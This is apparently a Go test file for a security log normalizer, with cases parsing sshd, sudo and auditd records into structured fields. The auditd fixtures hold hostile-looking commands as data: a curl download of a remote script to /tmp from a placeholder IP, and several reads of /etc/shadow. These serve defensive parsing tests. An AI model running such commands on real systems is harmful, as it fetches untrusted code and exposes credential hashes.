package normalize_test

import (
	"testing"
	"time"

	"khien.vn/khien/internal/event"
)

func TestSSHD(t *testing.T) {
	ssh := func(msg string) event.Event { return syslogEvent("srv-web-01", "sshd", msg) }
	cases := []tcase{
		{
			name:   "accepted_password",
			ev:     ssh("Accepted password for nguyen.van.a from 203.0.113.5 port 52144 ssh2"),
			parser: "sshd",
			want: map[string]string{"event.dataset": "system.auth", "event.module": "system", "event.category": "authentication",
				"event.type": "start", "event.outcome": "success", "event.action": "ssh-login", "user.name": "nguyen.van.a",
				"source.ip": "203.0.113.5", "source.port": "52144", "system.auth.ssh.method": "password",
				"system.auth.ssh.event": "Accepted"},
			absent: []string{"system.auth.ssh.signature"},
		},
		{
			name:   "accepted_publickey",
			ev:     ssh("Accepted publickey for deploy from 2001:db8::10 port 40022 ssh2: ED25519 SHA256:Yd3Q1g2Zr0iYb2x8w2cGm7k4Xo1s2Jv9aP5qLh3Tn0E"),
			parser: "sshd",
			want: map[string]string{"user.name": "deploy", "source.ip": "2001:db8::10", "system.auth.ssh.method": "publickey",
				"system.auth.ssh.signature": "ED25519 SHA256:Yd3Q1g2Zr0iYb2x8w2cGm7k4Xo1s2Jv9aP5qLh3Tn0E"},
		},
		{
			name:   "failed_password",
			ev:     ssh("Failed password for root from 198.51.100.77 port 41234 ssh2"),
			parser: "sshd",
			want:   map[string]string{"event.outcome": "failure", "user.name": "root", "system.auth.ssh.event": "Failed"},
		},
		{
			name:   "failed_invalid_user",
			ev:     ssh("Failed password for invalid user oracle from 198.51.100.77 port 41240 ssh2"),
			parser: "sshd",
			want:   map[string]string{"event.outcome": "failure", "user.name": "oracle", "system.auth.ssh.invalid_user": "true"},
		},
		{
			name:   "failed_publickey",
			ev:     ssh("Failed publickey for git from 198.51.100.80 port 50000 ssh2: RSA SHA256:abc"),
			parser: "sshd",
			want:   map[string]string{"event.outcome": "failure", "system.auth.ssh.method": "publickey"},
		},
		{
			name:   "keyboard_interactive",
			ev:     ssh("Accepted keyboard-interactive/pam for tran.thi.b from 10.20.3.44 port 60001 ssh2"),
			parser: "sshd",
			want:   map[string]string{"system.auth.ssh.method": "keyboard-interactive/pam", "event.outcome": "success"},
		},
		{
			name:   "invalid_user",
			ev:     ssh("Invalid user admin from 198.51.100.77 port 41234"),
			parser: "sshd",
			want: map[string]string{"event.action": "invalid-user", "event.outcome": "failure", "user.name": "admin",
				"source.ip": "198.51.100.77", "source.port": "41234"},
		},
		{
			name:   "disconnected_user",
			ev:     ssh("Disconnected from user nguyen.van.a 203.0.113.5 port 52144"),
			parser: "sshd",
			want: map[string]string{"event.action": "ssh-disconnect", "event.category": "session", "event.type": "end",
				"user.name": "nguyen.van.a", "source.ip": "203.0.113.5"},
		},
		{
			name:   "disconnected_preauth",
			ev:     ssh("Disconnected from authenticating user root 198.51.100.77 port 41234 [preauth]"),
			parser: "sshd",
			want:   map[string]string{"event.category": "authentication", "user.name": "root", "source.port": "41234"},
		},
		{
			name:   "connection_closed_invalid",
			ev:     ssh("Connection closed by invalid user test 198.51.100.77 port 41300 [preauth]"),
			parser: "sshd",
			want:   map[string]string{"user.name": "test", "source.ip": "198.51.100.77"},
		},
		{
			name:   "connection_closed_anonymous",
			ev:     ssh("Connection closed by 198.51.100.78 port 39000 [preauth]"),
			parser: "sshd",
			want:   map[string]string{"source.ip": "198.51.100.78", "source.port": "39000"},
			absent: []string{"user.name"},
		},
		{
			name:   "received_disconnect",
			ev:     ssh("Received disconnect from 198.51.100.78 port 39000:11: Bye Bye [preauth]"),
			parser: "sshd",
			want:   map[string]string{"source.ip": "198.51.100.78", "source.port": "39000"},
		},
		{
			name:   "max_attempts",
			ev:     ssh("error: maximum authentication attempts exceeded for root from 198.51.100.77 port 41234 ssh2 [preauth]"),
			parser: "sshd",
			want:   map[string]string{"event.action": "maximum-attempts-exceeded", "user.name": "root", "event.outcome": "failure"},
		},
		{
			name:   "pam_auth_failure",
			ev:     ssh("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.77  user=root"),
			parser: "sshd",
			want: map[string]string{"event.action": "pam-authentication-failure", "event.outcome": "failure", "user.name": "root",
				"source.ip": "198.51.100.77", "system.auth.pam.service": "sshd", "system.auth.pam.type": "auth"},
		},
		{
			name:   "pam_session_opened",
			ev:     ssh("pam_unix(sshd:session): session opened for user nguyen.van.a(uid=1001) by (uid=0)"),
			parser: "sshd",
			want:   map[string]string{"event.action": "session-opened", "event.category": "session", "user.name": "nguyen.van.a"},
		},
		{
			name:   "other_message",
			ev:     ssh("Server listening on 0.0.0.0 port 22."),
			parser: "sshd",
			want:   map[string]string{"event.dataset": "system.auth"},
			absent: []string{"event.action", "source.ip"},
		},
		{
			name:    "bad_address",
			ev:      ssh("Accepted password for a from 203.0.113.500 port 1 ssh2"),
			parser:  "sshd",
			want:    map[string]string{"user.name": "a", "event.outcome": "success"},
			wantErr: `"203.0.113.500" is not an IP address`,
		},
	}
	runCases(t, cases)
}

func TestSudo(t *testing.T) {
	sudo := func(msg string) event.Event { return syslogEvent("srv-web-01", "sudo", msg) }
	cases := []tcase{
		{
			name:   "command",
			ev:     sudo("nguyen.van.a : TTY=pts/0 ; PWD=/home/nguyen.van.a ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"),
			parser: "sudo",
			want: map[string]string{"event.dataset": "system.auth", "event.action": "sudo-command", "event.outcome": "success",
				"user.name": "nguyen.van.a", "user.effective.name": "root", "process.command_line": "/usr/bin/systemctl restart nginx",
				"process.working_directory": "/home/nguyen.van.a", "system.auth.sudo.tty": "pts/0", "process.name": "sudo"},
		},
		{
			name:   "command_with_semicolon",
			ev:     sudo("deploy : TTY=pts/3 ; PWD=/srv ; USER=root ; ENV=LANG=C ; COMMAND=/bin/sh -c cd /srv ; git pull"),
			parser: "sudo",
			want: map[string]string{"event.outcome": "success", "process.command_line": "/bin/sh -c cd /srv ; git pull",
				"user.effective.name": "root"},
			absent: []string{"system.auth.sudo.error"},
		},
		{
			name:   "leading_spaces",
			ev:     sudo("   deploy : TTY=unknown ; PWD=/srv/app ; USER=www-data ; COMMAND=/usr/bin/git pull"),
			parser: "sudo",
			want:   map[string]string{"user.name": "deploy", "user.effective.name": "www-data"},
		},
		{
			name:   "incorrect_password",
			ev:     sudo("le.van.c : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/le.van.c ; USER=root ; COMMAND=/bin/bash"),
			parser: "sudo",
			want: map[string]string{"event.action": "sudo-denied", "event.outcome": "failure",
				"system.auth.sudo.error": "3 incorrect password attempts", "process.command_line": "/bin/bash"},
		},
		{
			name:   "not_in_sudoers",
			ev:     sudo("intern : user NOT in sudoers ; TTY=pts/2 ; PWD=/home/intern ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow"),
			parser: "sudo",
			want:   map[string]string{"system.auth.sudo.error": "user NOT in sudoers", "event.outcome": "failure"},
		},
		{
			name:   "pam_session",
			ev:     sudo("pam_unix(sudo:session): session opened for user root(uid=0) by nguyen.van.a(uid=1001)"),
			parser: "sudo",
			want:   map[string]string{"user.name": "root", "system.auth.pam.by": "nguyen.van.a", "event.type": "start"},
		},
		{
			name:   "other_message",
			ev:     sudo("unable to resolve host srv-web-01: Name or service not known"),
			parser: "sudo",
			absent: []string{"user.name", "event.action"},
		},
	}
	runCases(t, cases)
}

func TestAuditd(t *testing.T) {
	audit := func(msg string) event.Event { return syslogEvent("srv-db-01", "audispd", msg) }
	cases := []tcase{
		{
			name: "syscall_execve",
			ev: lineEvent(`type=SYSCALL msg=audit(1736651742.123:8812): arch=c000003e syscall=59 success=yes exit=0 a0=55d1c6a0 a1=55d1c6b0 ` +
				`a2=55d1c6c0 a3=0 items=2 ppid=2211 pid=2290 auid=1001 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 ` +
				`tty=pts0 ses=7 comm="cat" exe="/usr/bin/cat" subj=unconfined key="shadow_read"`),
			parser: "auditd",
			want: map[string]string{"event.dataset": "auditd.log", "event.module": "auditd", "event.action": "syscall",
				"auditd.log.record_type": "SYSCALL", "auditd.log.sequence": "8812", "auditd.log.syscall": "59",
				"auditd.log.SYSCALL": "execve", "auditd.log.ARCH": "x86_64", "event.outcome": "success",
				"process.pid": "2290", "process.parent.pid": "2211", "process.name": "cat", "process.executable": "/usr/bin/cat",
				"user.id": "0", "user.audit.id": "1001", "user.effective.id": "0", "user.group.id": "0", "rule.name": "shadow_read",
				"event.category": "process", "event.type": "start", "auditd.log.a0": "55d1c6a0"},
			absent: []string{"process.command_line"},
		},
		{
			name: "execve_hex_and_quoted",
			ev: audit(`type=EXECVE msg=audit(1736651742.123:8812): argc=4 a0="curl" a1="-s" a2=2D6F202F746D702F782073682E7368 ` +
				`a3="http://198.51.100.4/x.sh"`),
			parser: "auditd",
			want: map[string]string{"process.args_count": "4", "process.command_line": "curl -s -o /tmp/x sh.sh http://198.51.100.4/x.sh",
				"process.args": `["curl","-s","-o /tmp/x sh.sh","http://198.51.100.4/x.sh"]`, "auditd.log.a2": "2D6F202F746D702F782073682E7368",
				"event.category": "process", "event.type": "start"},
		},
		{
			name: "relayed_by_audispd",
			ev: func() event.Event {
				ev := audit(`type=SYSCALL msg=audit(1736651742.123:8812): arch=c000003e syscall=59 success=yes pid=2290 comm="cat" exe="/usr/bin/cat"`)
				ev.Fields["process.pid"] = "712"
				return ev
			}(),
			parser: "auditd",
			want: map[string]string{"process.name": "cat", "process.pid": "2290", "log.syslog.appname": "audispd",
				"log.syslog.procid": "712"},
		},
		{
			name:   "execve_long_argument",
			ev:     lineEvent(`type=EXECVE msg=audit(1736651742.200:8813): argc=2 a0="echo" a1_len=10 a1[0]=68656C6C6F a1[1]=776F726C64`),
			parser: "auditd",
			want:   map[string]string{"process.command_line": "echo helloworld"},
		},
		{
			name: "enriched",
			ev: lineEvent("type=SYSCALL msg=audit(1736651742.123:8812): arch=c000003e syscall=59 success=no exit=-13 pid=2290 ppid=2211 " +
				"auid=1001 uid=1001 euid=1001 comm=\"bash\" exe=\"/usr/bin/bash\" key=(null)\x1dARCH=x86_64 SYSCALL=execve AUID=\"nguyen.van.a\" UID=\"nguyen.van.a\" EUID=\"nguyen.van.a\""),
			parser: "auditd",
			want: map[string]string{"user.name": "nguyen.van.a", "user.audit.name": "nguyen.van.a", "user.effective.name": "nguyen.van.a",
				"event.outcome": "failure", "auditd.log.SYSCALL": "execve", "auditd.log.UID": "nguyen.van.a"},
			absent: []string{"rule.name"},
		},
		{
			name: "rsyslog_escaped_separator",
			ev: audit(`type=USER_CMD msg=audit(1736651750.000:8820): pid=2400 uid=1001 auid=1001 ses=7 msg='cwd="/home/nguyen.van.a" ` +
				`cmd=73797374656D63746C2072657374617274206E67696E78 exe="/usr/bin/sudo" terminal=pts/0 res=success'#035UID="nguyen.van.a" AUID="nguyen.van.a"`),
			parser: "auditd",
			want: map[string]string{"process.command_line": "systemctl restart nginx", "process.working_directory": "/home/nguyen.van.a",
				"event.outcome": "success", "user.name": "nguyen.van.a", "process.executable": "/usr/bin/sudo",
				"auditd.log.terminal": "pts/0", "auditd.log.res": "success"},
		},
		{
			name: "user_login_failed",
			ev: lineEvent(`node=srv-db-01 type=USER_LOGIN msg=audit(1736651760.500:8830): pid=2500 uid=0 auid=4294967295 ses=4294967295 ` +
				`subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=198.51.100.77 terminal=sshd res=failed'`),
			parser: "auditd",
			want: map[string]string{"auditd.log.node": "srv-db-01", "event.category": "authentication", "event.outcome": "failure",
				"user.name": "root", "source.ip": "198.51.100.77", "auditd.log.op": "login", "user.id": "0"},
			absent: []string{"user.audit.id", "source.domain"},
		},
		{
			name:   "proctitle",
			ev:     lineEvent(`type=PROCTITLE msg=audit(1736651742.123:8812): proctitle=636174002F6574632F736861646F77`),
			parser: "auditd",
			want:   map[string]string{"process.title": "cat /etc/shadow"},
		},
		{
			name:   "path",
			ev:     lineEvent(`type=PATH msg=audit(1736651742.123:8812): item=0 name="/etc/shadow" inode=131 dev=fd:00 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL`),
			parser: "auditd",
			want:   map[string]string{"file.path": "/etc/shadow", "file.name": "shadow", "file.uid": "0", "file.gid": "42", "event.category": "file"},
		},
		{
			name:   "add_user",
			ev:     lineEvent(`type=ADD_USER msg=audit(1736651800.000:8900): pid=3000 uid=0 auid=1001 ses=7 msg='op=adding user id=1005 exe="/usr/sbin/useradd" hostname=srv-db-01 addr=? terminal=pts/0 res=success'`),
			parser: "auditd",
			want:   map[string]string{"event.category": "iam", "event.type": `["user","creation"]`, "source.domain": "srv-db-01"},
		},
		{
			name:   "kernel_avc",
			ev:     lineEvent(`type=AVC msg=audit(1736651900.000:9000): avc:  denied  { read } for  pid=3100 comm="httpd" name="passwd" dev="dm-0" ino=1234 scontext=system_u:system_r:httpd_t:s0 tcontext=system_u:object_r:passwd_file_t:s0 tclass=file permissive=0`),
			parser: "auditd",
			want:   map[string]string{"process.pid": "3100", "process.name": "httpd", "auditd.log.tclass": "file"},
		},
		{
			name:    "bad_stamp",
			ev:      lineEvent(`type=SYSCALL msg=audit(yesterday:1): pid=1`),
			parser:  "auditd",
			want:    map[string]string{"process.pid": "1"},
			wantErr: "bad time",
		},
		{
			name:    "unterminated_quote",
			ev:      lineEvent(`type=SYSCALL msg=audit(1736651742.123:8812): pid=1 comm="ca`),
			parser:  "auditd",
			want:    map[string]string{"process.pid": "1"},
			wantErr: `value of "comm"`,
		},
	}
	runCases(t, cases)

	t.Run("time_from_stamp", func(t *testing.T) {
		ev := lineEvent(`type=SYSCALL msg=audit(1736651742.123:8812): pid=1`)
		norm(t, &ev)
		if want := time.Unix(1736651742, 123e6).UTC(); !ev.Time.Equal(want) {
			t.Errorf("Time = %v, want %v", ev.Time, want)
		}
	})
}
